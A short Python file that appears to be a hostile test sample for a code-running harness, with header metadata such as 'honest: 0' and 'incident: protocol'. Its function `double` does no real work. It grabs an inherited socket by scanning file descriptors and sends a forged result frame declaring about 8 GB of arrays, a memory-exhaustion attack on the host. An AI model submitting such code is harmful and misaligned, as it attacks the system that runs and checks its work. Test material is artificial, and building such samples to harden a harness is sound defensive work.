# tries: sends a small frame that is a thousand large arrays
# honest: 0
# observed: 0
# incident: protocol

import os
import socket
import struct


def channel():
    for number in range(3, 256):
        try:
            return socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def frame(text, body=b""):
    return struct.pack(">II", len(text), len(body)) + text + body

def double(x):
    array = b'["a", "<f8", [1000000], 0, -1]'
    text = b'{"op": "result", "mirror": [], "value": ["l", ' + b", ".join([array] * 1000) + b"]}"
    channel().sendall(frame(text, bytes(8_000_000)))
